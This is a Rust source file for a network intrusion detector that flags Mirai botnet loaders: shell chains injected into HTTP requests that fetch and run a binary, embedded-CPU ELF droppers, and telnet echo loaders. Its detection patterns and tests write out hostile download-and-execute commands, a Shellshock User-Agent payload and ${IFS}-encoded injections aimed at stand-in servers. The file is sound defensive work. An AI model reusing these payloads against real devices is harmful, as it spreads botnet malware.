//! Mirai's loaders, and the exploit kits that spread it and its kin:
//! whatever the exploit, the device or the download server, a loader must
//! make the victim's shell fetch a binary and run it.
//!
//! - An exploit request injects a shell command chain into a URI, a header
//!   or a body: after a shell separator (`;`, `|`, `&&`, a backquote,
//!   `$(`), a fetch (`wget`, `curl`, `tftp`, `ftpget`, through `busybox`
//!   or not) of a URL or address, and a step that runs what came (`chmod`,
//!   `sh`, `./name`, `busybox`, `| sh`). `${IFS}` stands for spaces.
//!   [`CHAIN`]
//! - The dropper it fetches over HTTP is an ELF for an embedded CPU (MIPS,
//!   ARM, PowerPC, SuperH, SPARC, 68k), asked for by a command-line client
//!   rather than a browser. [`DROPPER`]
//! - Over telnet, the loader types the same chains, or writes its binary
//!   with `echo` and `\x7f\x45\x4c\x46` escapes. [`ECHO`], [`CHAIN`]

use std::sync::{Arc, LazyLock};

use aho_corasick::AhoCorasick;
use serde::{Deserialize, Serialize};

use super::{printable, AppData, Detector, Events, Finding, Signature, StreamData};
use crate::applayer::{AppEvent, HttpStage, Transaction};
use crate::detect::rules::buffer::url_decode;

const CHAIN: Signature = Signature {
    sid: 9_201_101,
    msg:
        "MIRADOR MIRAI loader: a shell chain that fetches and runs a binary, injected in a request",
    family: "mirai",
    classtype: "attempted-admin",
    priority: 1,
};

const DROPPER: Signature = Signature {
    sid: 9_201_102,
    msg: "MIRADOR MIRAI dropper: an ELF for an embedded CPU fetched by a command-line client",
    family: "mirai",
    classtype: "trojan-activity",
    priority: 2,
};

const ECHO: Signature = Signature {
    sid: 9_201_103,
    msg: "MIRADOR MIRAI echo loader: an ELF written through a telnet shell",
    family: "mirai",
    classtype: "trojan-activity",
    priority: 1,
};

/// Telnet ports loaders log in on.
const TELNET: [u16; 2] = [23, 2323];
/// Bytes of a telnet line kept at most.
const MAX_LINE: usize = 2 << 10;
/// Bytes of a request body read at most.
const MAX_BODY: usize = 16 << 10;
/// Commands that fetch.
const FETCHES: &[&str] = &["wget", "curl", "tftp", "ftpget"];
/// Any of [`FETCHES`]: one pass over what a request sends. Commands are
/// case-sensitive, so what runs is spelled in lower case.
static FETCH_WORDS: LazyLock<AhoCorasick> =
    LazyLock::new(|| AhoCorasick::new(FETCHES).expect("fixed patterns build"));
/// ELF machines of embedded CPUs: SPARC, 68k, MIPS, PowerPC, ARM, SuperH.
const EMBEDDED: &[(u16, &str)] = &[
    (2, "sparc"),
    (4, "m68k"),
    (8, "mips"),
    (20, "powerpc"),
    (40, "arm"),
    (42, "superh"),
];

/// `[detectors.loader]`: nothing to set.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct LoaderSettings {}

/// A command chain found: the fetch, what it fetched, the steps after.
#[derive(Debug, Clone, PartialEq, Eq)]
struct Chain {
    fetch: &'static str,
    source: String,
    steps: Vec<&'static str>,
}

/// The shell text of `raw`: URL-decoded, `${IFS}` as spaces, lower case.
fn shell_text(raw: &[u8]) -> Vec<u8> {
    let decoded = url_decode(raw);
    let mut text = Vec::with_capacity(decoded.len());
    let mut i = 0;
    while i < decoded.len() {
        let rest = &decoded[i..];
        if let Some(n) = [&b"${IFS}"[..], b"$IFS", b"${IFS%??}"]
            .iter()
            .find(|p| rest.starts_with(p))
            .map(|p| p.len())
        {
            text.push(b' ');
            i += n;
            continue;
        }
        text.push(decoded[i].to_ascii_lowercase());
        i += 1;
    }
    text
}

fn find(text: &[u8], what: &[u8]) -> Option<usize> {
    memchr::memmem::find(text, what)
}

/// The download-and-run chain in `raw`, when there is one.
fn chain(raw: &[u8]) -> Option<Chain> {
    if raw.len() < 12 || !FETCH_WORDS.is_match(raw) {
        return None;
    }
    let text = shell_text(raw);
    let separated = [&b";"[..], b"|", b"&&", b"`", b"$(", b"\n"]
        .iter()
        .any(|s| find(&text, s).is_some());
    if !separated {
        return None;
    }
    let (fetch, at) = FETCHES.iter().find_map(|f| {
        let mut from = 0;
        while let Some(pos) = find(&text[from..], f.as_bytes()) {
            let at = from + pos;
            let before = at.checked_sub(1).map(|b| text[b]);
            let after = text.get(at + f.len());
            let word_start = before.is_none_or(|b| {
                matches!(
                    b,
                    b' ' | b';' | b'|' | b'&' | b'`' | b'(' | b'/' | b'\n' | b'\t'
                )
            });
            if word_start && after == Some(&b' ') {
                return Some((*f, at + f.len()));
            }
            from = at + 1;
        }
        None
    })?;
    let rest = &text[at..];
    let end = rest
        .iter()
        .position(|b| matches!(b, b';' | b'|' | b'&' | b'`' | b'\n'))
        .unwrap_or(rest.len());
    let arguments = &rest[..end];
    let source = source(arguments)?;
    let mut steps = Vec::new();
    for (step, pattern) in [
        ("chmod", &b"chmod "[..]),
        ("sh", b"sh "),
        ("pipe-to-shell", b"| sh"),
        ("pipe-to-shell", b"|sh"),
        ("run", b"./"),
        ("busybox", b"busybox"),
        ("cd-tmp", b"cd /tmp"),
        ("rm", b"rm -rf"),
    ] {
        if find(&text, pattern).is_some() && !steps.contains(&step) {
            steps.push(step);
        }
    }
    let runs = steps
        .iter()
        .any(|s| matches!(*s, "chmod" | "sh" | "pipe-to-shell" | "run" | "busybox"));
    runs.then_some(Chain {
        fetch,
        source,
        steps,
    })
}

/// What a fetch's arguments fetch: a URL's host and path, or an address
/// (`tftp -g -r name 198.51.100.7`).
fn source(arguments: &[u8]) -> Option<String> {
    for word in arguments.split(|&b| b == b' ') {
        for scheme in [&b"http://"[..], b"https://", b"ftp://", b"tftp://"] {
            if let Some(rest) = word.strip_prefix(scheme) {
                if !rest.is_empty() {
                    return Some(printable(rest, 120));
                }
            }
        }
        let host = word.split(|&b| b == b':').next().unwrap_or(word);
        if std::str::from_utf8(host).is_ok_and(|h| h.parse::<std::net::Ipv4Addr>().is_ok()) {
            return Some(printable(word, 120));
        }
    }
    None
}

/// The embedded CPU an ELF is for, when it is one.
fn embedded_elf(bytes: &[u8]) -> Option<&'static str> {
    if !bytes.starts_with(b"\x7fELF") || bytes.len() < 20 {
        return None;
    }
    let machine = match bytes[5] {
        2 => u16::from_be_bytes([bytes[18], bytes[19]]),
        _ => u16::from_le_bytes([bytes[18], bytes[19]]),
    };
    EMBEDDED
        .iter()
        .find(|(m, _)| *m == machine)
        .map(|(_, name)| *name)
}

/// A client that is not a browser: none, or a command-line fetcher.
fn command_line_client(tx: &Transaction) -> bool {
    match tx.request.header(b"user-agent") {
        None => true,
        Some(agent) => {
            let lower = agent.to_ascii_lowercase();
            !lower.starts_with(b"mozilla")
                && [
                    &b"wget"[..],
                    b"curl",
                    b"busybox",
                    b"python",
                    b"go-http-client",
                    b"libwww",
                ]
                .iter()
                .any(|p| lower.starts_with(p))
        }
    }
}

/// A telnet session's client line being typed.
#[derive(Debug, Default)]
pub struct TelnetLine {
    line: Vec<u8>,
    reported: bool,
}

/// Loaders and droppers.
#[derive(Debug, Default)]
pub struct Loader;

impl Detector for Loader {
    const SIDS: std::ops::RangeInclusive<u32> = 9_201_100..=9_201_199;
    const SIGNATURES: &'static [Signature] = &[CHAIN, DROPPER, ECHO];
    const EVENTS: Events = Events::STREAM
        .union(Events::HTTP_REQUEST)
        .union(Events::HTTP_REQUEST_BODY)
        .union(Events::HTTP_RESPONSE_BODY);
    type Settings = LoaderSettings;
    /// Kept for telnet sessions only.
    type Flow = Option<Box<TelnetLine>>;
    type Shared = ();

    fn new(_: &LoaderSettings, _: &Arc<()>) -> Self {
        Self
    }

    fn app(
        &mut self,
        _: &mut Option<Box<TelnetLine>>,
        data: &AppData<'_>,
        out: &mut impl FnMut(Finding),
    ) {
        let AppEvent::Http(tx, stage) = data.event else {
            return;
        };
        match stage {
            HttpStage::RequestHeaders => {
                let mut found = chain(&tx.uri_raw).map(|c| (c, "uri"));
                for (name, value) in &tx.request.headers {
                    if found.is_some() {
                        break;
                    }
                    if !name.eq_ignore_ascii_case(b"host") {
                        found = chain(value).map(|c| (c, "header"));
                    }
                }
                if let Some((chain, place)) = found {
                    report(&chain, place, &tx.request.start_line, out);
                }
            }
            HttpStage::RequestBody => {
                let body = &tx.request.body[..tx.request.body.len().min(MAX_BODY)];
                if let Some(chain) = chain(body) {
                    report(&chain, "body", body, out);
                }
            }
            HttpStage::ResponseBody => {
                if let Some(cpu) = embedded_elf(&tx.response.body) {
                    if command_line_client(tx) {
                        let metadata = format!(
                            "tool dropper, cpu {cpu}, uri {}, agent {}, bytes {}",
                            printable(&tx.uri, 120),
                            tx.request
                                .header(b"user-agent")
                                .map_or_else(|| "none".to_owned(), |a| printable(a, 64)),
                            tx.response.body.len()
                        );
                        out(Finding::new(&DROPPER, metadata, &tx.request.start_line));
                    }
                }
            }
            HttpStage::ResponseHeaders => {}
        }
    }

    /// Telnet client lines.
    fn stream(
        &mut self,
        flow: &mut Option<Box<TelnetLine>>,
        data: &StreamData<'_>,
        out: &mut impl FnMut(Finding),
    ) {
        if data.stream.dir != 0 || !TELNET.contains(&data.stream.dst.port()) {
            return;
        }
        let flow = flow.get_or_insert_with(Box::default);
        if flow.reported {
            return;
        }
        for &b in data.bytes {
            if b != b'\n' && b != b'\r' && b != 0 {
                if flow.line.len() < MAX_LINE {
                    flow.line.push(b);
                }
                continue;
            }
            if flow.line.is_empty() {
                continue;
            }
            let line = std::mem::take(&mut flow.line);
            let lower = line.to_ascii_lowercase();
            if find(&lower, b"echo").is_some()
                && (find(&lower, b"\\x7f\\x45\\x4c\\x46").is_some()
                    || find(&lower, b"\\x7felf").is_some())
            {
                let metadata = format!("tool echo-loader, line_bytes {}", line.len());
                out(Finding::new(&ECHO, metadata, &line));
                flow.reported = true;
                return;
            }
            if let Some(chain) = chain(&line) {
                report(&chain, "telnet", &line, out);
                flow.reported = true;
                return;
            }
        }
    }

    fn stream_done(&self, flow: &Option<Box<TelnetLine>>, data: &StreamData<'_>) -> bool {
        data.stream.dir != 0
            || !TELNET.contains(&data.stream.dst.port())
            || flow.as_ref().is_some_and(|line| line.reported)
    }
}

fn report(chain: &Chain, place: &str, bytes: &[u8], out: &mut impl FnMut(Finding)) {
    let metadata = format!(
        "tool loader, fetch {}, source {}, steps {}, place {place}",
        chain.fetch,
        chain.source,
        chain.steps.join(" ")
    );
    out(Finding::new(&CHAIN, metadata, bytes));
}

#[cfg(test)]
mod tests {
    use super::super::variants::Random;
    use super::*;
    use crate::applayer::{AppFlow, AppLayer, HttpLimits};
    use crate::detect::Sender;
    use crate::reassembly::StreamId;

    fn exchange(request: &[u8], response: &[u8]) -> Vec<Finding> {
        let mut loader = Loader;
        let mut applayer = AppLayer::new(HttpLimits::default());
        let mut app = AppFlow::default();
        let stream = StreamId {
            flow_id: 1,
            dir: 0,
            src: "203.0.113.66:41000".parse().unwrap(),
            dst: "10.9.0.20:80".parse().unwrap(),
            carrier: Default::default(),
        };
        let mut found = Vec::new();
        for (dir, bytes) in [(0, request), (1, response)] {
            applayer.data(
                &mut app,
                &stream.toward(dir),
                0,
                bytes,
                &mut |event, sent| {
                    let sender = Sender::of_stream(&stream.toward(sent));
                    let data = AppData {
                        ts_ns: 0,
                        sender: &sender,
                        event: &event,
                    };
                    loader.app(&mut None, &data, &mut |f| found.push(f));
                },
            );
        }
        found
    }

    const OK: &[u8] = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok";

    #[test]
    fn injected_chains_are_found_whatever_the_exploit_and_server() {
        let mut random = Random::new(61);
        for round in 0..60 {
            let server = format!(
                "{}.{}.{}.{}",
                random.between(1, 223),
                random.draw() % 256,
                random.draw() % 256,
                random.between(1, 254)
            );
            let name = random.word_of(2, 6);
            let fetch = ["wget", "curl -O", "busybox wget", "tftp -g -r"][round % 4];
            let target = if fetch.starts_with("tftp") {
                format!("{name} {server}")
            } else {
                format!("http://{server}/{name}.sh")
            };
            let command = format!(
                "cd /tmp; {fetch} {target}; chmod 777 {name}.sh; sh {name}.sh {}",
                random.word(4)
            );
            let encoded: String = command
                .replace(' ', if round % 2 == 0 { "${IFS}" } else { "%20" })
                .replace(';', "%3B");
            let request = match round % 3 {
                0 => format!("GET /cgi-bin/{}.cgi?{}=`{encoded}` HTTP/1.1\r\nHost: victim\r\n\r\n", random.word(6), random.word(3)),
                1 => {
                    let body = format!("{}=1&{}=;{encoded}", random.word(4), random.word(5));
                    format!("POST /{} HTTP/1.1\r\nHost: victim\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{body}", random.word(5), body.len())
                }
                _ => format!("GET / HTTP/1.1\r\nHost: victim\r\nUser-Agent: () {{ :; }}; /bin/bash -c \"{command}\"\r\n\r\n"),
            };
            let found = exchange(request.as_bytes(), OK);
            assert_eq!(found.len(), 1, "round {round}: {request}");
            assert!(found[0].metadata.contains(&server), "{}", found[0].metadata);
        }
    }

    #[test]
    fn droppers_and_echo_loaders() {
        for (machine, big_endian, cpu) in [
            (8u16, true, "mips"),
            (40, false, "arm"),
            (42, false, "superh"),
        ] {
            let mut elf = b"\x7fELF\x01".to_vec();
            elf.push(if big_endian { 2 } else { 1 });
            elf.resize(18, 0);
            elf.extend(if big_endian {
                machine.to_be_bytes()
            } else {
                machine.to_le_bytes()
            });
            elf.resize(2_000, 7);
            let mut response =
                format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n", elf.len()).into_bytes();
            response.extend(&elf);
            let found = exchange(
                b"GET /bins/x HTTP/1.1\r\nHost: d\r\nUser-Agent: Wget\r\n\r\n",
                &response,
            );
            assert_eq!(found.len(), 1);
            assert!(found[0].metadata.contains(&format!("cpu {cpu}")));
            let browser = exchange(
                b"GET /fw.bin HTTP/1.1\r\nHost: d\r\nUser-Agent: Mozilla/5.0\r\n\r\n",
                &response,
            );
            assert!(browser.is_empty(), "a browser download");
        }
        let mut loader = Loader;
        let mut line = None;
        let stream = StreamId {
            flow_id: 2,
            dir: 0,
            src: "203.0.113.9:40000".parse().unwrap(),
            dst: "10.0.0.3:23".parse().unwrap(),
            carrier: Default::default(),
        };
        let typed =
            b"/bin/busybox echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01' > .t; /bin/busybox MIRAI\r\n";
        let mut found = Vec::new();
        for (i, piece) in typed.chunks(7).enumerate() {
            let data = StreamData {
                ts_ns: 0,
                stream: &stream,
                offset: (i * 7) as u64,
                bytes: piece,
            };
            loader.stream(&mut line, &data, &mut |f| found.push(f));
        }
        assert_eq!(
            found.iter().map(|f| f.signature.sid).collect::<Vec<_>>(),
            [9_201_103]
        );
    }

    #[test]
    fn ordinary_requests_are_not_loaders() {
        let requests: [&[u8]; 4] = [
            b"GET /search?q=how+to+use+wget+and+chmod HTTP/1.1\r\nHost: a\r\n\r\n",
            b"GET /docs/install.html HTTP/1.1\r\nHost: a\r\nUser-Agent: curl/8.5.0\r\n\r\n",
            b"POST /api HTTP/1.1\r\nHost: a\r\nContent-Length: 33\r\n\r\n{\"cmd\":\"wget is a download tool\"}",
            b"GET /a;b|c HTTP/1.1\r\nHost: a\r\n\r\n",
        ];
        for request in requests {
            assert!(
                exchange(request, OK).is_empty(),
                "{}",
                String::from_utf8_lossy(request)
            );
        }
        let mut elf = b"\x7fELF\x02\x01".to_vec();
        elf.resize(18, 0);
        elf.extend(62u16.to_le_bytes());
        elf.resize(100, 0);
        let mut response =
            format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n", elf.len()).into_bytes();
        response.extend(&elf);
        assert!(
            exchange(
                b"GET /tool HTTP/1.1\r\nHost: d\r\nUser-Agent: curl/8\r\n\r\n",
                &response
            )
            .is_empty(),
            "x86-64"
        );
    }
}
